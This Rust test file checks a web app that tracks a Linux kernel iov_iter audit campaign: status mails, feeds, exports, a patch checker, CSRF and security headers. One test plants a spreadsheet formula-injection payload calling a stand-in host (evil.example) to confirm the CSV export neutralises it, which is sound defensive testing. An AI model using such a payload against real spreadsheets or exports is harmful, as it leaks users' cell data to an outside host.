//! Reports, feeds, exports, the patch check, notes and security headers, through the real
//! router.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use treewide_core::model::{EventSource, Status};
use treewide_core::{transition, users};
use treewide_testing::spawn_app;

#[tokio::test]
async fn the_status_mail_lists_what_is_left_like_the_seed() {
    let app = spawn_app().await;
    let r = app.get("/c/iov-iter-pin/report.txt").await;
    let (s, h, body) = (r.status, &r.headers, &r.body);
    assert_eq!(s, StatusCode::OK);
    assert!(h[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("text/plain"));
    assert!(body.contains("Done: 90 of 217 sites"), "{body}");
    assert!(body.contains("Open questions to owners:"));
    assert!(body.contains("NVM EXPRESS TARGET DRIVER — drivers/nvme/target/io-cmd-file.c:94"));
    // The campaign's mail goes to the owners of what is open; questions are whole.
    assert!(
        body.contains("\nTo: ") && body.contains("hch@lst.de"),
        "{body}"
    );
    assert!(body.contains("\nCc: ") && body.contains("linux-nvme@lists.infradead.org"));
    // Not the owners of what only waits for the auditors (S390 has unreviewed sites only).
    let head = body.split("\nRule: ").next().unwrap();
    assert!(!head.contains("hca@linux.ibm.com"), "{head}");
    assert!(!head.contains("linux-s390@vger.kernel.org"), "{head}");
    assert!(!body.contains("…\n"), "no question is cut: {body}");
    let haven = body.split("Haven't done yet:\n").nth(1).expect("the list");
    let lines: Vec<&str> = haven.lines().take_while(|l| !l.is_empty()).collect();
    // Every call nobody has looked at yet: the seven of the mail and what else the scan found.
    assert_eq!(lines.len(), 74);
    assert!(lines.contains(&"drivers/target/target_core_file.c:292: iov_iter_bvec(&iter, is_write, aio_cmd->bvecs, sgl_nents, len);"));
    let one = app
        .get("/c/iov-iter-pin/report.txt?subsystem=nvm-express-target-driver")
        .await
        .body;
    assert!(one.contains("To: Christoph Hellwig <hch@lst.de>"), "{one}");
    assert!(one.contains("Cc: linux-nvme@lists.infradead.org"));
    // The direction campaign opens with the commits that fixed it, as the seed mail does.
    let d = app.get("/c/iov-iter-direction/report.txt").await.body;
    let fixed = d.split("Fixed by:\n").nth(1).expect("a commit list");
    assert!(fixed.lines().any(|l| l.contains("[vhost]")), "{d}");
    assert!(fixed.lines().any(|l| l.contains("[xen]")), "{d}");
}

/// 4,200 sites in one campaign (2,100 needing a fix), two calls on some lines: the status
/// mail is streamed a page (1,000 sites) at a time, and still lists each open site once, status by status, in
/// tree order (file, line, then the order the sites were stored), whole and per subsystem.
#[tokio::test]
async fn a_long_status_mail_lists_each_open_site_once_in_tree_order() {
    use treewide_core::ingest;
    use treewide_importer::auditor;

    let app = spawn_app().await;
    let statuses = [
        "needs_fix",
        "needs_pin",
        "needs_fix",
        "unreviewed",
        "needs_fix",
        "fixed",
    ];
    let sites: Vec<serde_json::Value> = (0..4200)
        .map(|i| {
            // Files of ten sites; the sixth of each shares its line with the fifth.
            let line = if i % 10 == 5 { i } else { i + 1 };
            serde_json::json!({
                "file": format!("fs/f{}.c", (i / 10) % 7),
                "line": line,
                "callee": "iov_iter_bvec",
                "function": format!("fn{i}"),
                "code": format!("iov_iter_bvec(&it, WRITE, bv{i}, 1, len);"),
                "status": statuses[(i / 3) % 6],
                "subsystem": format!("LONG MAIL {}", i % 2),
            })
        })
        .collect();
    let doc = serde_json::json!({
        "format": "treewide-audit/1",
        "campaign": {"slug": "long", "title": "Long mail"},
        "sites": sites,
    });
    let batch = auditor::parse_bytes(
        "long.json",
        doc.to_string().as_bytes(),
        EventSource::Import,
        "t",
    )
    .unwrap();
    ingest::store(&app.db, &batch).await.unwrap();
    // What each list must be: the sites of its status (and subsystem) by file and line, the
    // earlier-stored first on a shared line.
    let expected = |status: &str, sub: Option<usize>| -> Vec<String> {
        let mut v: Vec<(String, u64, usize, String)> = sites
            .iter()
            .enumerate()
            .filter(|(i, s)| s["status"] == status && sub.is_none_or(|n| i % 2 == n))
            .map(|(i, s)| {
                let (file, line) = (s["file"].as_str().unwrap(), s["line"].as_u64().unwrap());
                let code = s["code"].as_str().unwrap();
                (file.to_owned(), line, i, format!("{file}:{line}: {code}"))
            })
            .collect();
        v.sort();
        v.into_iter().map(|x| x.3).collect()
    };
    let list = |mail: &str, heading: &str| -> Vec<String> {
        mail.split(&format!("\n{heading}:\n"))
            .nth(1)
            .unwrap_or_else(|| panic!("no {heading} list"))
            .lines()
            .take_while(|l| !l.is_empty())
            .map(str::to_owned)
            .collect()
    };
    for (uri, sub) in [
        ("/c/long/report.txt", None),
        ("/c/long/report.txt?subsystem=long-mail-1", Some(1)),
    ] {
        let r = app.get(uri).await;
        assert_eq!(r.status, StatusCode::OK, "{uri}");
        let mail = &r.body;
        assert_eq!(
            list(mail, "Needs fixing"),
            expected("needs_fix", sub),
            "{uri}"
        );
        assert_eq!(
            list(mail, "Needs pinning"),
            expected("needs_pin", sub),
            "{uri}"
        );
        assert_eq!(
            list(mail, "Haven't done yet"),
            expected("unreviewed", sub),
            "{uri}"
        );
        assert!(!mail.contains("Awaiting owners:") && !mail.contains("Fix proposed:"));
        assert!(mail.ends_with(";\n"), "the last list ends the mail");
    }
}

#[tokio::test]
async fn atom_feeds_follow_campaigns_and_subsystems() {
    let app = spawn_app().await;
    let r = app.get("/c/iov-iter-pin/feed.atom").await;
    let (s, h, body) = (r.status, &r.headers, &r.body);
    assert_eq!(s, StatusCode::OK);
    assert!(h[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("application/atom+xml"));
    assert!(body.starts_with("<?xml"));
    assert!(body.contains("<entry>"));
    let r = app
        .get("/c/iov-iter-pin/s/nvm-express-target-driver/feed.atom")
        .await;
    let (s, sub) = (r.status, &r.body);
    assert_eq!(s, StatusCode::OK);
    assert!(sub.contains("io-cmd-file.c:94"), "{sub}");
    assert!(!sub.contains("vringh.c"), "only this subsystem");
}

#[tokio::test]
async fn exports_from_the_dashboard() {
    let app = spawn_app().await;
    let r = app.get("/c/iov-iter-pin/export.csv?status=needs_pin").await;
    let (s, h, csv) = (r.status, &r.headers, &r.body);
    assert_eq!(s, StatusCode::OK);
    assert!(h[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .contains("iov-iter-pin.csv"));
    assert_eq!(csv.lines().count(), 48, "header + 47 needs_pin sites");
    let r = app.get("/c/iov-iter-pin/export.json").await;
    let (s, json) = (r.status, &r.body);
    assert_eq!(s, StatusCode::OK);
    let v: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(v["format"], "treewide-audit/1");
    assert_eq!(v["sites"].as_array().unwrap().len(), 217);
}

#[tokio::test]
async fn the_patch_check_flags_legacy_directions_and_new_get_pages_callers() {
    let app = spawn_app().await;
    let diff = "--- a/fs/x.c\n+++ b/fs/x.c\n@@ -1,2 +1,3 @@\n int a;\n+\tiov_iter_bvec(&iter, WRITE, bv, 1, len);\n int b;\n";
    let req = Request::post("/api/v1/check")
        .header(header::CONTENT_TYPE, "text/x-diff")
        .body(Body::from(diff))
        .unwrap();
    let r = app.send(req).await;
    let (s, body) = (r.status, &r.body);
    assert_eq!(s, StatusCode::OK, "{body}");
    let v: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(v["ok"], false);
    let f = &v["findings"][0];
    assert_eq!(
        (f["file"].as_str(), f["line"].as_i64()),
        (Some("fs/x.c"), Some(2))
    );
    assert_eq!(
        f["suggestion"],
        "iov_iter_bvec(&iter, ITER_SOURCE, bv, 1, len);"
    );
    let clean = serde_json::json!({ "diff": "--- a/fs/x.c\n+++ b/fs/x.c\n@@ -1 +1,2 @@\n int a;\n+\tiov_iter_bvec(&iter, ITER_SOURCE, bv, 1, len);\n" });
    let req = Request::post("/api/v1/check")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(clean.to_string()))
        .unwrap();
    let body = app.send(req).await.body;
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["ok"],
        true,
        "{body}"
    );
}

#[tokio::test]
async fn pages_carry_security_headers_and_anonymous_pages_set_no_cookie() {
    let app = spawn_app().await;
    let r = app.get("/c/iov-iter-pin").await;
    let (h, body) = (&r.headers, &r.body);
    let csp = h[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    assert!(csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"));
    assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(
        h.get(header::SET_COOKIE).is_none(),
        "reading needs no session"
    );
    assert!(body.contains("Log in"));
    // The CSP allows no inline styles or scripts: pages must not need them.
    for uri in ["/", "/c/iov-iter-pin", "/c/iov-iter-pin/s/afs-filesystem"] {
        let page = app.get(uri).await.body;
        assert!(
            !page.contains(" style=") && !page.contains("<script"),
            "{uri} has inline style or script"
        );
    }
    // The login form gets a session and a CSRF token, in a Secure, HttpOnly, SameSite cookie.
    let r = app.get("/login").await;
    let (s, h, body) = (r.status, &r.headers, &r.body);
    assert_eq!(s, StatusCode::OK);
    let cookie = h[header::SET_COOKIE].to_str().unwrap();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("Secure") && cookie.contains("SameSite=Lax"),
        "{cookie}"
    );
    assert!(body.contains("name=\"csrf\""));
    // A form posted without the session's token is refused.
    let req = Request::post("/login")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("email=a%40b.c&password=x&csrf=nope"))
        .unwrap();
    assert_eq!(app.send(req).await.status, StatusCode::FORBIDDEN);
    // Bodies are limited.
    let big = "x".repeat(2 << 20);
    let req = Request::post("/api/v1/check")
        .header(header::CONTENT_TYPE, "text/x-diff")
        .body(Body::from(big))
        .unwrap();
    assert_eq!(app.send(req).await.status, StatusCode::PAYLOAD_TOO_LARGE);
}

#[tokio::test]
async fn the_openapi_document_and_the_vendored_docs_are_served() {
    let app = spawn_app().await;
    let r = app.get("/api/v1/openapi.json").await;
    let (s, body) = (r.status, &r.body);
    assert_eq!(s, StatusCode::OK);
    let v: serde_json::Value = serde_json::from_str(body).unwrap();
    assert!(v["openapi"].as_str().unwrap().starts_with("3."));
    for path in [
        "/api/v1/sites",
        "/api/v1/sites/{id}",
        "/api/v1/events",
        "/api/v1/check",
        "/api/v1/messages",
    ] {
        assert!(
            v["paths"].get(path).is_some(),
            "{path} missing from the OpenAPI document"
        );
    }
    assert!(v["paths"]["/api/v1/sites/{id}"].get("patch").is_some());
    assert_eq!(
        v["components"]["securitySchemes"]["bearer"]["scheme"],
        "bearer"
    );
    let r = app.get("/api/docs/").await;
    let (s, html) = (r.status, &r.body);
    assert_eq!(s, StatusCode::OK);
    assert!(html.contains("swagger-ui-bundle.js"));
    let s = app.get("/api/docs/swagger-ui-bundle.js").await.status;
    assert_eq!(s, StatusCode::OK, "the UI is vendored, not fetched");
}

#[tokio::test]
async fn a_feed_with_control_characters_in_what_people_typed_is_still_xml() {
    let app = spawn_app().await;
    let list = app
        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
        .await
        .json();
    let id = treewide_core::model::SiteId(list["items"][0]["id"].as_i64().unwrap());
    transition::change_status(
        &app.db,
        transition::StatusRequest {
            site: id,
            to: Status::NeedsPin,
            by: transition::Authority::Signoff,
            actor: "bot\u{1b}[31m <bot@example.org>",
            source: EventSource::Web,
            reason: "pasted from a terminal: \u{1}\u{8}\u{b}\u{c}\u{ffff} <b>&amp;",
            expected_version: None,
        },
    )
    .await
    .unwrap();
    for uri in [
        "/c/iov-iter-pin/feed.atom",
        "/c/iov-iter-pin/s/nvm-express-target-driver/feed.atom",
    ] {
        let xml = app.get(uri).await.body;
        let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{uri}: {e}\n{xml}"));
        let content = doc
            .descendants()
            .find(|n| n.has_tag_name("content"))
            .and_then(|n| n.text())
            .unwrap();
        assert!(
            content.contains(
                "pasted from a terminal: \u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd} <b>&amp;"
            ),
            "{content}"
        );
    }
}

#[tokio::test]
async fn csv_cells_that_would_be_formulas_are_quoted() {
    let app = spawn_app().await;
    let list = app
        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
        .await
        .json();
    let id = list["items"][0]["id"].as_i64().unwrap();
    transition::change_status(
        &app.db,
        transition::StatusRequest {
            site: treewide_core::model::SiteId(id),
            to: Status::NeedsPin,
            by: transition::Authority::Signoff,
            actor: "someone@example.org",
            source: EventSource::Web,
            reason: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            expected_version: None,
        },
    )
    .await
    .unwrap();
    let csv = app.get("/c/iov-iter-pin/export.csv").await.body;
    let row = csv
        .lines()
        .find(|l| l.starts_with(&format!("{id},")))
        .unwrap();
    assert!(
        row.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#),
        "{row}"
    );
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
}

#[tokio::test]
async fn the_patch_check_survives_a_comment_at_the_argument_limit() {
    let app = spawn_app().await;
    // `iov_iter_bvec(` and about 8,190 bytes of argument, then `/*` at the 8,192-byte limit.
    for pad in [8189, 8190, 8191] {
        let line = format!("+\tiov_iter_bvec({}/* x */);", "a".repeat(pad));
        let diff = format!("--- a/fs/x.c\n+++ b/fs/x.c\n@@ -1 +1,2 @@\n int a;\n{line}\n");
        let req = Request::post("/api/v1/check")
            .header(header::CONTENT_TYPE, "text/x-diff")
            .body(Body::from(diff))
            .unwrap();
        let r = app.send(req).await;
        assert_eq!(r.status, StatusCode::OK, "pad {pad}: {}", r.body);
        assert!(r.json()["findings"].is_array());
    }
}

#[tokio::test]
async fn the_same_note_twice_is_a_conflict_not_a_failure() {
    let app = spawn_app().await;
    let (user, _) = users::invite(&app.db, "bot@example.org", "", false)
        .await
        .unwrap();
    let (_, token) = users::create_token(&app.db, user.id, "bot", &[users::Scope::NotesWrite])
        .await
        .unwrap();
    let list = app
        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
        .await
        .json();
    let id = list["items"][0]["id"].as_i64().unwrap();
    let post = || {
        Request::post(format!("/api/v1/sites/{id}/notes"))
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(
                r#"{"text": "checked: sgl pages are anonymous"}"#,
            ))
            .unwrap()
    };
    assert_eq!(app.send(post()).await.status, StatusCode::CREATED);
    let again = app.send(post()).await;
    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.body);
    assert_eq!(again.content_type(), "application/problem+json");
    assert_eq!(
        again.json()["detail"],
        "you have already written this note on this site"
    );

    // The same from the site page's form: a page saying so.
    users::accept_invite(
        &app.db,
        &users::invite(&app.db, "hch@lst.de", "", false)
            .await
            .unwrap()
            .1,
        "correct horse 1",
    )
    .await
    .unwrap();
    let mut b = app.browser();
    let csrf = b.get("/login").await.csrf();
    let r = b
        .form(
            "/login",
            &[
                ("csrf", &csrf),
                ("email", "hch@lst.de"),
                ("password", "correct horse 1"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let site = format!("/c/iov-iter-pin/site/{id}");
    let csrf = b.get(&site).await.csrf();
    let note = [
        ("csrf", csrf.as_str()),
        ("text", "looks fine"),
        ("back", site.as_str()),
    ];
    let r = b.form(&format!("{site}/notes"), &note).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let r = b.form(&format!("{site}/notes"), &note).await;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert!(r.content_type().starts_with("text/html"));
    assert!(
        r.body
            .contains("you have already written this note on this site"),
        "{}",
        r.body
    );
}

#[tokio::test]
async fn a_proposal_is_a_feed_entry_with_its_reason_and_so_is_its_decision() {
    let app = spawn_app().await;
    let list = app
        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
        .await
        .json();
    let site = treewide_core::model::SiteId(list["items"][0]["id"].as_i64().unwrap());
    let outcome = treewide_core::proposals::request(
        &app.db,
        transition::StatusRequest {
            site,
            to: Status::ConfirmedSafe,
            by: transition::Authority::Proposal,
            actor: "Someone <someone@example.org>",
            source: EventSource::Web,
            reason: "sgl_alloc() pages: anonymous, checked the driver",
            expected_version: None,
        },
        None,
    )
    .await
    .unwrap();
    let treewide_core::proposals::Outcome::Proposed { id } = outcome else {
        panic!("an outsider's confirmation is a proposal: {outcome:?}");
    };
    for uri in [
        "/c/iov-iter-pin/feed.atom",
        "/c/iov-iter-pin/s/nvm-express-target-driver/feed.atom",
    ] {
        let xml = app.get(uri).await.body;
        let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{uri}: {e}"));
        // Made in the same second as the demo's import: find it among the newest.
        let first = doc
            .descendants()
            .filter(|n| n.has_tag_name("entry"))
            .find(|e| {
                e.children().any(|n| {
                    n.has_tag_name("id")
                        && n.text()
                            .unwrap_or_default()
                            .ends_with(&format!("/proposal/{id}"))
                })
            })
            .unwrap_or_else(|| panic!("an entry for proposal #{id}: {xml}"));
        let text = |tag: &str| {
            first
                .children()
                .find(|n| n.has_tag_name(tag))
                .and_then(|n| n.text())
                .unwrap_or_default()
                .to_owned()
        };
        assert!(
            text("content").contains("sgl_alloc() pages: anonymous"),
            "{xml}"
        );
        assert!(text("title").contains("io-cmd-file.c:94"), "{xml}");
    }
    treewide_core::proposals::decide(
        &app.db,
        id,
        false,
        transition::Authority::Signoff,
        "Christoph Hellwig <hch@lst.de>",
        EventSource::Web,
        "not yet",
    )
    .await
    .unwrap_or_else(|e| panic!("decide: {e}"));
    let xml = app.get("/c/iov-iter-pin/feed.atom").await.body;
    assert!(
        xml.contains(&format!("/proposal/{id}/rejected</id>")),
        "{xml}"
    );
    assert!(xml.contains("rejected — not yet"), "{xml}");
    // Once in the feed, not twice: the proposal's events stay out of it.
    assert_eq!(xml.matches("not yet").count(), 1, "{xml}");
    // The site's history has both, with who and why.
    let page = app
        .get(&format!("/c/iov-iter-pin/site/{}", site.0))
        .await
        .body;
    assert!(
        page.contains("proposed awaiting_owner → confirmed_safe"),
        "{page}"
    );
    assert!(
        page.contains(&format!("proposal #{id}: sgl_alloc() pages: anonymous")),
        "{page}"
    );
    assert!(page.contains("proposal rejected"), "{page}");
    assert!(
        page.contains(&format!(
            "proposal #{id} by Someone &#60;someone@example.org&#62;: not yet"
        )),
        "{page}"
    );
}
